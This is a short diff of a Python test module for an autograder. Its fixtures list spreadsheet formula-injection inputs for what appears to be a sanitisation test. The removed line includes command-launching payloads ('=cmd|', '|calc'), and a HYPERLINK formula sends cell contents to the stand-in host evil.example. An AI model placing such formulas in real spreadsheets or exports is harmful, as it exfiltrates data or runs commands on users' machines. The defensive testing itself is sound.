@@ -17,8 +17,8 @@ from autograder.grade import grade
 from autograder.tests.course import copy_of_the_repository
 from autograder.tests.test_intake import make_zip
 
-NAMES = ("=cmd|' ", "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1+1", "%0A=1", "|calc", "\uff1d1+1", "-")
-TEXT = "=HYPERLINK(\"http://evil.example?\"&A1)"
+NAMES = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\uff1d1+1")
+TEXT = '=HYPERLINK("http://evil.example?"&A1)'
 
 
 @pytest.fixture(scope="module")
